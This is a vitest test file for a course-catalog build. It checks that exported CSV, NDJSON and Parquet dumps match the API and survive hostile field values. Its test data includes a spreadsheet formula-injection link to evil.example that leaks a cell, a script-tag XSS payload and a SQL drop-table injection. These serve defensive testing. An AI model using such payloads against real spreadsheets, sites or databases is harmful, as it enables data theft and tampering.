// The dumps of a build: all of them hold the catalog of its API, and later builds rewrite only what changed.
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import type { FullCourse } from '../../src/api/records.ts';
import type { BuildResult } from '../../src/build/build-options.ts';
import { runBuild, type Chosen } from '../build/run.ts';
import { it } from '../helpers/fixture.ts';
import { makeFolder, removeFolder, writeFiles } from '../helpers/folders.ts';
import { words } from '../helpers/words.ts';
import { coursesByDuckdb, linesIn, withSixDigits } from './read-back.ts';

const all = { dumps: ['ndjson', 'csv', 'parquet'] } as const satisfies Partial<Chosen>;
const formats = all.dumps;

/** Text that somewhere is more than text. */
const attacks = [
  ...'=HYPERLINK("https://evil.example/?"&A1,"Click")|+1|-2+3|@SUM(A1)|\tcmd|"quoted", ""twice""'.split('|'),
  ...'two\r\nlines\nand more|</script><script>alert(1)</script>| spaces |\\N|NULL|null|1e400|\u2028\u2029'.split('|'),
  ..."\u{1F600}é中|{{dataBlock}}|%s %n|a;b|'; drop table courses; --".split('|'),
];

/** Ids that are not in order, times with a fraction, several values, and attacks in every field. */
const courses = attacks.map((attack, at) => ({
  id: at % 2 === 0 ? 9_007_199_254_740_991 - at : at,
  title: attack,
  linkurl: `${attack}#${at}`,
  provider: 1,
  language: at % 3 === 0 ? ['English', 'Français'] : ['English'],
  date_published: ['2024-02-29T12:34:56.1234', '0001-01-01', '9999-12-31T23:59:59.999999'][at % 3],
  description: attack,
  tags: attack,
  author: attack,
  categories: at % 4 === 0 ? [] : [20, 30].slice(at % 2),
  catalog_id: at % 2 === 0 ? at + 1 : null,
}));

const source = {
  'providers.json': JSON.stringify([
    { id: 1, name: '=1+1, "Inc"', external_id: 'crmid:7' },
    { id: 2, name: 'None' },
  ]),
  'categories.json': JSON.stringify([
    { id: 30, name: 'B' },
    { id: 10, name: 'A', children: [{ id: 20, name: '=A,"1"', children: [{ id: 5, name: 'Deep' }] }] },
  ]),
  'courses.ndjson': courses.map((course) => `${JSON.stringify(course)}\n`).join(''),
};

let folder: string;
beforeAll(() => void (folder = makeFolder()));
afterAll(() => removeFolder(folder));

/** The full records that the API of a build has, by ascending id. */
function recordsIn(out: string): { readonly text: string; readonly course: FullCourse }[] {
  const views = join(out, 'api/v1/courses/view');
  const texts = readdirSync(views).map((hash) => readFileSync(join(views, hash, 'index.json'), 'utf8').trimEnd());
  return texts.map((text) => ({ text, course: JSON.parse(text) })).toSorted((a, b) => a.course.id - b.course.id);
}

/** What is wrong with the data package of a build: sizes, digests, and files that it does not name. */
function wrongIn(out: string): string[] {
  const { resources }: { resources: { path: string; bytes: number; hash: string }[] } = JSON.parse(
    readFileSync(join(out, 'dumps/datapackage.json'), 'utf8'),
  );
  const wrong = resources.flatMap(({ path, bytes, hash }) => {
    const file = readFileSync(join(out, 'dumps', path));
    const digest = `sha256:${createHash('sha256').update(file).digest('hex')}`;
    return file.length === bytes && digest === hash ? [] : [`${path} is another file`];
  });
  const named = new Set(['datapackage.json', ...resources.map(({ path }) => path)]);
  return [...wrong, ...readdirSync(join(out, 'dumps')).filter((name) => !named.has(name))];
}

/** A `;` in the name of a category divides its path in CSV: the ids tell. */
function divided(course: FullCourse): FullCourse {
  return { ...course, categories: course.categories.flatMap((path) => path.split(';')) };
}

describe('the dumps of a build', () => {
  it('hold the sample catalog as its API does, as DuckDB reads them', async () => {
    const out = join(folder, 'sample');
    await runBuild({ data: 'data', out, chosen: all });
    const records = recordsIn(out);
    const read = records.map(({ course }) => withSixDigits(course));
    expect(linesIn(join(out, 'dumps/courses.ndjson.gz'))).toEqual(records.map(({ text }) => text));
    for (const format of formats)
      expect(await coursesByDuckdb(out, format)).toEqual(format === 'csv' ? read.map(divided) : read);
    expect(wrongIn(out)).toEqual([]);
  });

  it('keep attacks, formulas included, as the text that they are', async () => {
    const out = join(folder, 'attacks');
    writeFiles(join(folder, 'attacks-data'), source);
    await runBuild({ data: join(folder, 'attacks-data'), out, chosen: all });
    const records = recordsIn(out).map(({ course }) => course);
    expect(records.map(({ title }) => title).toSorted()).toEqual(attacks.toSorted());
    // Read by a parser of RFC 4180, as DuckDB cannot tell a `;` in a value from one between two.
    const rows: Record<string, string>[] = parse(readFileSync(join(out, 'dumps/courses.csv')), { columns: true });
    const cells = records.map((course) =>
      Object.fromEntries(
        Object.entries(course).map(([name, value]) => [
          name,
          Array.isArray(value) ? value.join(';') : String(value ?? ''),
        ]),
      ),
    );
    expect(rows).toEqual(cells);
    for (const format of ['ndjson', 'parquet'] as const) {
      expect(await coursesByDuckdb(out, format)).toEqual(records.map(withSixDigits));
    }
    expect(wrongIn(out)).toEqual([]);
  });

  it('come with every provider, category and language', async () => {
    const out = join(folder, 'attacks');
    const rowsOf = (table: string) => parse(readFileSync(join(out, `dumps/${table}.csv`)), { columns: true });
    const counts = new Map(
      [30, 10, 20, 5].map((id) => [
        id,
        JSON.parse(readFileSync(join(out, `api/v1/categories/${id}/index.json`), 'utf8')).count,
      ]),
    );
    const categories = [
      { id: 30, name: 'B', parent: null, order: 1, path: 'All/B', course_count: counts.get(30) },
      { id: 10, name: 'A', parent: null, order: 2, path: 'All/A', course_count: counts.get(10) },
      { id: 20, name: '=A,"1"', parent: 10, order: 3, path: 'All/A/=A,"1"', course_count: counts.get(20) },
      { id: 5, name: 'Deep', parent: 20, order: 4, path: 'All/A/=A,"1"/Deep', course_count: 0 },
    ];
    const asCells = (row: object) =>
      Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value ?? '')]));
    const tables = {
      categories,
      providers: JSON.parse(readFileSync(join(out, 'api/v1/providers/index.json'), 'utf8')),
      languages: [
        { name: 'English', tag: 'en', course_count: attacks.length },
        { name: 'Français', tag: 'fr', course_count: courses.filter(({ language }) => language.length > 1).length },
      ],
    };
    for (const [table, rows] of Object.entries(tables)) {
      expect(linesIn(join(out, `dumps/${table}.ndjson.gz`)).map((text) => JSON.parse(text))).toEqual(rows);
      expect(rowsOf(table)).toEqual(rows.map(asCells));
    }
  });

  it('have no time and no system in the header of gzip', async () => {
    const dumps = join(folder, 'attacks/dumps');
    const names = readdirSync(dumps).filter((name) => name.endsWith('.gz'));
    expect(names).toHaveLength(4);
    for (const name of names) {
      const header = readFileSync(join(dumps, name)).subarray(0, 10);
      expect([header.readUInt32LE(4), header[9]], name).toEqual([0, 255]);
    }
  });

  it('are those of an empty catalog where there is no course', async ({ folder: place }) => {
    const [data, out] = [join(place, 'data'), join(place, 'dist')];
    writeFiles(data, { 'providers.json': '[]', 'categories.json': '[]', 'courses.json': '[]' });
    await runBuild({ data, out, chosen: all });
    for (const format of formats) expect(await coursesByDuckdb(out, format)).toEqual([]);
    expect(wrongIn(out)).toEqual([]);
  });

  it('are only those that were asked for, and go when they are no longer', async ({ folder: place }) => {
    const [data, out] = [join(place, 'data'), join(place, 'dist')];
    writeFiles(data, source);
    await runBuild({ data, out, chosen: { dumps: ['csv', 'parquet'] } });
    await runBuild({ data, out, chosen: { dumps: ['csv'] } });
    expect(readdirSync(join(out, 'dumps')).filter((name) => name.startsWith('courses'))).toEqual(['courses.csv']);
    await runBuild({ data, out });
    expect(existsSync(join(out, 'dumps'))).toBe(false);
  });

  it('refuse a public file in their folder', async ({ folder: place }) => {
    writeFiles(place, { 'public/dumps/mine.csv': 'a' });
    writeFiles(join(place, 'data'), source);
    const run = { data: join(place, 'data'), out: join(place, 'dist') };
    await expect(runBuild({ ...run, chosen: all })).rejects.toMatchObject({
      problems: [expect.objectContaining({ finding: 'is in dumps, which belongs to the dumps' })],
    });
    await runBuild(run);
    expect(readFileSync(join(place, 'dist/dumps/mine.csv'), 'utf8')).toBe('a');
  });
});

describe('a later build', () => {
  /** Large texts, so that CSV has two parts. */
  const large = (id: number, title = `Course ${id}`) =>
    `${JSON.stringify({ id, title, linkurl: `c${id}`, provider: 1, language: 'English', date_published: '2024-01-01', description: 'x'.repeat(1_000_000) })}\n`;
  const ids = Array.from({ length: 30 }, (_, at) => at + 1);
  let first: BuildResult;
  let run: { readonly data: string; readonly out: string; readonly chosen: Partial<Chosen> };
  const write = (lines: readonly string[]) => writeFileSync(join(run.data, 'courses.ndjson'), lines.join(''));
  const dumpsIn = ({ changes }: BuildResult) =>
    [...changes.added, ...changes.changed].filter((path) => path.startsWith('dumps/')).toSorted();

  beforeAll(async () => {
    run = { data: join(folder, 'large-data'), out: join(folder, 'large'), chosen: { ...all, chunkSize: 1_500_000 } };
    writeFiles(run.data, source);
    write(ids.map((id) => large(id)));
    first = await runBuild(run);
  });

  it('finds every part that the size of the courses asks for', () => {
    const parts = words`courses-2.csv courses-2.ndjson.gz courses-2.parquet courses.csv courses.ndjson.gz courses.parquet`;
    expect(dumpsIn(first)).toEqual(expect.arrayContaining(parts.map((name) => `dumps/${name}`)));
    expect(dumpsIn(first).filter((path) => path.startsWith('dumps/courses'))).toHaveLength(parts.length);
  });

  it('writes nothing where nothing changed', async () => {
    const { changes } = await runBuild(run);
    expect(changes).toEqual({ added: [], changed: [], removed: [] });
  });

  it('rewrites one part of each kind for an edited course, as a build from nothing has it', async () => {
    write(ids.map((id) => large(id, id === 29 ? 'Edited' : undefined)));
    const names = ['courses-2.csv', 'courses-2.ndjson.gz', 'courses-2.parquet', 'datapackage.json'];
    expect(dumpsIn(await runBuild(run))).toEqual(names.map((name) => `dumps/${name}`));
    const fresh = { ...run, out: join(folder, 'large-again') };
    await runBuild(fresh);
    for (const name of readdirSync(join(run.out, 'dumps'))) {
      const [found, expected] = [run, fresh].map(({ out }) => readFileSync(join(out, 'dumps', name)));
      expect(expected?.equals(found ?? Buffer.alloc(0)), name).toBe(true);
    }
    expect(await coursesByDuckdb(run.out, 'csv')).toHaveLength(ids.length);
    expect(wrongIn(run.out)).toEqual([]);
  });

  it('mends a part that was changed by hand, and removes parts that are no longer needed', async () => {
    writeFileSync(join(run.out, 'dumps/courses-2.csv'), 'by hand');
    expect(dumpsIn(await runBuild(run))).toEqual(['dumps/courses-2.csv']);
    write(ids.slice(0, 5).map((id) => large(id)));
    expect((await runBuild(run)).changes.removed).toContain('dumps/courses-2.csv');
    expect(wrongIn(run.out)).toEqual([]);
  });
});
